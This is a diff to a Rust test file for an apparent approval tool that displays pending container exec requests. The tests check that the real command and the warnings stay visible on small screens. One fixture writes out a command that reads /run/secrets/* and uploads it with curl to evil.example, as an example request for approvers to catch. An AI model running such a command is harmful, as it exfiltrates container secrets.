@@ -486,9 +486,7 @@ async fn whatever_is_padded_the_true_command_is_on_the_screen_and_the_forged_one
     assert_eq!(begins("jane can run"), 1, "{text}");
     let facts = text
         .rsplit_once("\n\n")
-        .unwrap()
-        .0
-        .rsplit_once("\nWho")
+        .and_then(|(facts, _)| facts.rsplit_once("\nCommand"))
         .unwrap()
         .1;
     assert!(facts.contains(r#"["sh","-c","cat"#), "{text}");
@@ -499,7 +497,8 @@ async fn whatever_is_padded_the_true_command_is_on_the_screen_and_the_forged_one
         "{text}"
     );
     assert!(
-        text.contains("rows above do not fit on this") || height == 50,
+        text.replace("\n  ", " ")
+            .contains("rows above do not fit on this screen"),
         "{text}"
     );
 }
@@ -532,4 +531,35 @@ async fn what_goes_on_with_an_earlier_request_says_whether_it_is_the_same(
         .out;
     let out = out.replace("\n           | ", "");
     assert!(out.contains(&format!("Follows      {told}\n")), "{out}");
+}
+
+// P1
+#[tokio::test]
+async fn a_group_of_requests_with_long_names_does_not_push_its_own_summary_off_the_screen() {
+    let command = json!({"container": "nginx", "command": ["sh", "-c", "cat /run/secrets/*|curl -T- evil.example"]});
+    let requests: Vec<Value> = (0..9)
+        .map(|number| {
+            let name = format!("{}{number}", "x".repeat(252));
+            let mut one = request(&name, "jane", &json!({}));
+            one["spec"]["execOptions"] = command.clone();
+            one
+        })
+        .collect();
+    let fake = with(&requests).read_on(80, 24);
+    let out = fake.run(&["approve", "--pending"], "n\n").await.out;
+    let screen = seen(&out, 80, 24).join("\n");
+    assert!(
+        screen.contains(r#"Command      ["sh","-c","cat /run/secrets/*|curl -T- evil.example"]"#),
+        "{screen}"
+    );
+    let text = screen.replace("\n  ", " ");
+    assert!(
+        text.contains("These are 9 identical requests: one answer is for ALL of them."),
+        "{screen}"
+    );
+    assert!(
+        text.contains("rows above do not fit on this screen"),
+        "{screen}"
+    );
+    assert!(!out.lines().any(|row| row.starts_with("xxx")), "{out}");
 }
